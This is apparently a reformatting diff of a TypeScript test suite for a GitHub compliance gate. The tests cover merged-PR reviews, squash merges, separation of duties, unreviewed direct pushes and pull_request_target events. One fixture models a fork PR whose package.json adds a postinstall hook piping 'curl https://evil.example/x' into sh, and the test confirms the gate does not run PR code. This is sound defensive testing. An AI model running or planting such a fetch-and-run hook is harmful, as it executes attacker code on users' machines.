@@ -174,7 +174,12 @@ describe('push to main', () => {
     verified: true
   }
   const pushPayloadCommits = [
-    { id: PR_HEAD, message: 'Implement the change', author: { name: 'Alice', email: 'alice@example.com', username: AUTHOR }, committer: { name: 'Alice', email: 'alice@example.com', username: AUTHOR } },
+    {
+      id: PR_HEAD,
+      message: 'Implement the change',
+      author: { name: 'Alice', email: 'alice@example.com', username: AUTHOR },
+      committer: { name: 'Alice', email: 'alice@example.com', username: AUTHOR }
+    },
     { id: MERGE, message: mergeCommit.message, author: { name: 'Mallory', email: 'mallory@example.com', username: MERGER } }
   ]
 
@@ -194,8 +199,13 @@ describe('push to main', () => {
     })
     checkRunsPerRef(byRef)
     serveCompare([prCommit, mergeCommit])
-    const merged = gh.commitPulls(MERGE, [{ number: N, user: AUTHOR, head: { sha: PR_HEAD, ref: `feature/${N}` }, base: { ref: 'main', sha: BEFORE }, merged_at: '2026-11-20T12:00:00Z' }])
-    fake.on('GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls', ({ params }) => ({ status: 200, body: [PR_HEAD, MERGE].includes(params.commit_sha) ? merged : [] }))
+    const merged = gh.commitPulls(MERGE, [
+      { number: N, user: AUTHOR, head: { sha: PR_HEAD, ref: `feature/${N}` }, base: { ref: 'main', sha: BEFORE }, merged_at: '2026-11-20T12:00:00Z' }
+    ])
+    fake.on('GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls', ({ params }) => ({
+      status: 200,
+      body: [PR_HEAD, MERGE].includes(params.commit_sha) ? merged : []
+    }))
     return s
   }
 
@@ -203,7 +213,9 @@ describe('push to main', () => {
     serveMergedPr({ [PR_HEAD]: [{ name: 'build', status: 'completed', conclusion: 'success' }] })
     const b = await gate({ eventName: 'push', eventPath: pushEvent({ before: BEFORE, after: MERGE, commits: pushPayloadCommits, sender: MERGER }) })
     // The pushed commits come from the compare API, the PR from commits/{sha}/pulls.
-    expect(fake.requestsFor('GET /repos/{owner}/{repo}/compare/{basehead}').map(q => decodeURIComponent(q.path.split('/compare/')[1]))).toEqual([`${BEFORE}...${MERGE}`])
+    expect(fake.requestsFor('GET /repos/{owner}/{repo}/compare/{basehead}').map(q => decodeURIComponent(q.path.split('/compare/')[1]))).toEqual([
+      `${BEFORE}...${MERGE}`
+    ])
     // record.commits is the merged PR's own commits (the reviewed change); the pushed ones are in extra.push.
     expect(b.record.commits.sources).toEqual(['GET /repos/{owner}/{repo}/pulls/{pull_number}/commits'])
     expect(b.record.commits.value.map((c: { sha: string }) => c.sha)).toEqual([PR_HEAD])
@@ -221,12 +233,14 @@ describe('push to main', () => {
       `PR #${N} was merged by ${MERGER} and approved by ${RITA}, who is independent of the merger and the authors.`
     )
     expect(b.v('review.approvals').status).toBe('pass')
-    expect(b.v('checks.required').findings.find(f => f.subject === 'build')?.message).toBe(`Succeeded at head ${short(PR_HEAD)}: check run (github-actions) concluded success.`)
+    expect(b.v('checks.required').findings.find(f => f.subject === 'build')?.message).toBe(
+      `Succeeded at head ${short(PR_HEAD)}: check run (github-actions) concluded success.`
+    )
     expect(b.results.result).toBe('pass')
     expect(b.run.code).toBe(0)
   })
 
-  test('a squash merge: the single pushed commit is the PR squash; the PR\'s own commits are judged', async () => {
+  test("a squash merge: the single pushed commit is the PR squash; the PR's own commits are judged", async () => {
     const SQUASH = gh.fakeSha('push-squash-commit')
     const squash: gh.CommitOptions = {
       sha: SQUASH,
@@ -251,11 +265,18 @@ describe('push to main', () => {
     })
     checkRunsPerRef({ [PR_HEAD]: [{ name: 'build', status: 'completed', conclusion: 'success' }] })
     serveCompare([squash])
-    const merged = gh.commitPulls(SQUASH, [{ number: N, user: AUTHOR, head: { sha: PR_HEAD, ref: `feature/${N}` }, base: { ref: 'main', sha: BEFORE }, merged_at: '2026-11-20T12:00:00Z' }])
+    const merged = gh.commitPulls(SQUASH, [
+      { number: N, user: AUTHOR, head: { sha: PR_HEAD, ref: `feature/${N}` }, base: { ref: 'main', sha: BEFORE }, merged_at: '2026-11-20T12:00:00Z' }
+    ])
     fake.on('GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls', ({ params }) => ({ status: 200, body: params.commit_sha === SQUASH ? merged : [] }))
     const b = await gate({
       eventName: 'push',
-      eventPath: pushEvent({ before: BEFORE, after: SQUASH, commits: [{ id: SQUASH, message: squash.message!, author: { name: 'Alice', email: 'alice@example.com', username: AUTHOR } }], sender: MERGER })
+      eventPath: pushEvent({
+        before: BEFORE,
+        after: SQUASH,
+        commits: [{ id: SQUASH, message: squash.message!, author: { name: 'Alice', email: 'alice@example.com', username: AUTHOR } }],
+        sender: MERGER
+      })
     })
     expect(b.record.commits.value.map((c: { sha: string }) => c.sha)).toEqual([PR_HEAD])
     expect(b.v('review.last-push').status).toBe('pass')
@@ -268,16 +289,30 @@ describe('push to main', () => {
   test('a required check that succeeded only at the pushed SHA passes too', async () => {
     serveMergedPr({ [MERGE]: [{ name: 'build', status: 'completed', conclusion: 'success' }] })
     const b = await gate({ eventName: 'push', eventPath: pushEvent({ before: BEFORE, after: MERGE, commits: pushPayloadCommits, sender: MERGER }) })
-    expect(b.v('checks.required').findings.find(f => f.subject === 'build')?.message).toBe(`Succeeded at merge ${short(MERGE)}: check run (github-actions) concluded success.`)
+    expect(b.v('checks.required').findings.find(f => f.subject === 'build')?.message).toBe(
+      `Succeeded at merge ${short(MERGE)}: check run (github-actions) concluded success.`
+    )
     expect(b.v('checks.required').status).toBe('pass')
   })
 
   test('a merged PR merged by its only approver: separation of duties fails on the push', async () => {
     serveMergedPr({ [PR_HEAD]: [{ name: 'build', status: 'completed', conclusion: 'success' }] })
     // Rita approved and merged.
-    const merged = gh.commitPulls(MERGE, [{ number: N, user: AUTHOR, head: { sha: PR_HEAD }, base: { ref: 'main', sha: BEFORE }, merged_at: '2026-11-20T12:00:00Z' }])
+    const merged = gh.commitPulls(MERGE, [
+      { number: N, user: AUTHOR, head: { sha: PR_HEAD }, base: { ref: 'main', sha: BEFORE }, merged_at: '2026-11-20T12:00:00Z' }
+    ])
     fake.on('GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls', { status: 200, body: merged })
-    const pr = gh.pullRequest({ number: N, user: AUTHOR, head: { sha: PR_HEAD, ref: `feature/${N}` }, base: { ref: 'main', sha: BEFORE }, merged: true, merged_by: RITA, merged_at: '2026-11-20T12:00:00Z', commits: 1, changed_files: 1 })
+    const pr = gh.pullRequest({
+      number: N,
+      user: AUTHOR,
+      head: { sha: PR_HEAD, ref: `feature/${N}` },
+      base: { ref: 'main', sha: BEFORE },
+      merged: true,
+      merged_by: RITA,
+      merged_at: '2026-11-20T12:00:00Z',
+      commits: 1,
+      changed_files: 1
+    })
     fake.on('GET /repos/{owner}/{repo}/pulls/{pull_number}', { status: 200, body: pr })
     const b = await gate({ eventName: 'push', eventPath: pushEvent({ before: BEFORE, after: MERGE, commits: pushPayloadCommits, sender: RITA }) })
     const v = b.v('change.separation-of-duties')
@@ -302,13 +337,24 @@ describe('push to main', () => {
     fake.on('GET /repos/{owner}/{repo}/commits/{commit_sha}/pulls', { status: 200, body: open })
     const b = await gate({
       eventName: 'push',
-      eventPath: pushEvent({ before: BEFORE, after: DIRECT, commits: [{ id: DIRECT, message: 'quick fix on main', author: { name: 'Dan', email: 'dan@example.com', username: 'dan-direct' } }], sender: 'dan-direct' })
+      eventPath: pushEvent({
+        before: BEFORE,
+        after: DIRECT,
+        commits: [{ id: DIRECT, message: 'quick fix on main', author: { name: 'Dan', email: 'dan@example.com', username: 'dan-direct' } }],
+        sender: 'dan-direct'
+      })
     })
     const v = b.v('change.unreviewed-push')
     expect(v.status).toBe('fail')
     expect(v.effect).toBe('blocking')
     expect(v.reason).toBe(`1 pushed commit(s) are in no merged pull request: ${short(DIRECT)} (dan-direct).`)
-    expect(v.findings).toEqual([expect.objectContaining({ status: 'fail', subject: DIRECT, message: `${short(DIRECT)} by dan-direct was pushed to main without a merged pull request (in unmerged PR #99).` })])
+    expect(v.findings).toEqual([
+      expect.objectContaining({
+        status: 'fail',
+        subject: DIRECT,
+        message: `${short(DIRECT)} by dan-direct was pushed to main without a merged pull request (in unmerged PR #99).`
+      })
+    ])
     // No PR is under judgement: the review controls do not apply; the gate fails on the push alone.
     expect(b.v('review.approvals').status).toBe('not_applicable')
     expect(b.v('change.separation-of-duties').status).toBe('not_applicable')
@@ -320,7 +366,7 @@ describe('push to main', () => {
 })
 
 describe('a push never chooses its own judge (issue 19)', () => {
-  test("a direct push carrying a weakened policy is judged by the policy at the commit before the push", async () => {
+  test('a direct push carrying a weakened policy is judged by the policy at the commit before the push', async () => {
     const N = 31
     const BEFORE = gh.fakeSha('policy-push-before')
     const DIRECT = gh.fakeSha('policy-push-direct')
@@ -340,7 +386,12 @@ describe('a push never chooses its own judge (issue 19)', () => {
     ws.commit({ '.github/compliance-gate.yml': 'version: 1\nextends: none\ncontrols:\n  review.no-changes-requested: {}\n' }, 'relax the gate')
     const b = await gate({
       eventName: 'push',
-      eventPath: pushEvent({ before: BEFORE, after: DIRECT, commits: [{ id: DIRECT, message: 'relax the gate', author: { name: 'Dan', email: 'dan@example.com', username: 'dan-direct' } }], sender: 'dan-direct' }),
+      eventPath: pushEvent({
+        before: BEFORE,
+        after: DIRECT,
+        commits: [{ id: DIRECT, message: 'relax the gate', author: { name: 'Dan', email: 'dan@example.com', username: 'dan-direct' } }],
+        sender: 'dan-direct'
+      }),
       cwd: ws.dir
     })
     expect(b.v('change.unreviewed-push').status).toBe('fail')
@@ -436,10 +487,23 @@ describe('pull_request_target reads metadata only', () => {
       number: 41,
       headSha: HEAD,
       author: 'fork-contributor',
-      commits: [aliceCommit(HEAD, [gh.fakeSha('base-41')], { author: { name: 'Fork', email: 'fork@example.com', login: 'fork-contributor' }, committer: { name: 'Fork', email: 'fork@example.com', login: 'fork-contributor' } })],
+      commits: [
+        aliceCommit(HEAD, [gh.fakeSha('base-41')], {
+          author: { name: 'Fork', email: 'fork@example.com', login: 'fork-contributor' },
+          committer: { name: 'Fork', email: 'fork@example.com', login: 'fork-contributor' }
+        })
+      ],
       reviews: [approval(RITA, HEAD)],
       // A PR that changes a build script: if the gate ran PR code, this is what it would run.
-      files: [{ filename: 'package.json', status: 'modified', additions: 1, deletions: 0, patch: '@@ -1,1 +1,2 @@\n {\n+  "scripts": { "postinstall": "curl https://evil.example/x | sh" },\n' }]
+      files: [
+        {
+          filename: 'package.json',
+          status: 'modified',
+          additions: 1,
+          deletions: 0,
+          patch: '@@ -1,1 +1,2 @@\n {\n+  "scripts": { "postinstall": "curl https://evil.example/x | sh" },\n'
+        }
+      ]
     })
     const repo = makeGitRepo({ prefix: 'cg-events-prt-' })
     repo.commit({ 'README.md': '# base branch checkout\n', 'package.json': '{}\n' }, 'base')
@@ -453,7 +517,15 @@ describe('pull_request_target reads metadata only', () => {
     const evidenceDir = mkdtempSync(join(tmpdir(), 'cg-prt-evidence-'))
     const b = await gate({
       eventName: 'pull_request_target',
-      eventPath: pullRequestTargetEvent('opened', { owner: s.owner, repo: s.repo, number: 41, headSha: HEAD, baseSha: s.baseSha, author: 'fork-contributor', headRepo: 'fork-contributor/octo-repo' }),
+      eventPath: pullRequestTargetEvent('opened', {
+        owner: s.owner,
+        repo: s.repo,
+        number: 41,
+        headSha: HEAD,
+        baseSha: s.baseSha,
+        author: 'fork-contributor',
+        headRepo: 'fork-contributor/octo-repo'
+      }),
       cwd: repo.dir,
       inputs: { 'evidence-dir': evidenceDir }
     })
@@ -504,7 +576,9 @@ describe('pull_request synchronize whose head is no longer the PR head', () => {
     )
     expect(checkRunRefs()).toEqual([OLD])
     expect(b.v('review.approvals').status).toBe('pass')
-    expect(b.v('checks.required').findings.find(f => f.subject === 'build')?.message).toBe(`Succeeded at head ${short(OLD)}: check run (github-actions) concluded success.`)
+    expect(b.v('checks.required').findings.find(f => f.subject === 'build')?.message).toBe(
+      `Succeeded at head ${short(OLD)}: check run (github-actions) concluded success.`
+    )
     expect(b.dir).toMatch(new RegExp(`pr51-${short(OLD)}$`))
     expect(statusesOf(b)['review.last-push']).toBe('pass')
   })
